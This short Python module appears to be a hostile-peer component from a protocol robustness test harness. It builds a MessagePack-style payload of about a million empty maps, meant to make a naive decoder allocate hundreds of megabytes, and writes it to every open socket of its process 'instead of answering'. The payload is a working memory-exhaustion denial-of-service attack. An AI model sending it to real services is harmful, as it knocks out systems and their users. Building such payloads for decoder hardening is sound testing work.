"""Sends a million empty maps in one megabyte, which take a decoder hundreds of megabytes.

layer: wire
effect: naive peer
"""

import contextlib
import os
import stat


def send(data):
    """Write to every socket of this process."""
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)


def double(values, say):
    """Attack instead of answering."""
    say("ATTEMPT empty_maps")
    count = (1 << 20) - 16
    control = b"\x92\x90\xdd" + count.to_bytes(4, "big") + b"\x80" * count
    send(len(control).to_bytes(4, "little") + control)
    return values
